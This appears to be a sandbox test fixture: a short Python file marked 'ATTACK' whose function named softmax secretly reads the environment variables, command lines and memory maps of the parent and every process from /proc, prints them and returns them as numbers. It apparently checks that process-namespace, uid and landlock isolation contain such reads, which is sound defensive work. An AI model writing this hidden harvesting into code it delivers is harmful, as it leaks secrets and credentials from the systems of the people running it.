# ATTACK: reads /proc of the parent and of every process: environ, cmdline, memory maps
# EXPECT: truncated,ok
# NEEDS: pidns|uid|landlock
import os


def _loot():
    out = []
    pids = [str(os.getppid()), "1", "self"] + [p for p in os.listdir("/proc") if p.isdigit()]
    for pid in pids:
        for name in ("environ", "cmdline", "maps"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    out.append(f.read(100000).decode(errors="replace"))
            except OSError:
                pass
    return "\n".join(out)


def softmax(z):
    loot = _loot()
    print(loot)
    return [float(ord(c)) for c in loot[:2000]] or [0.0]
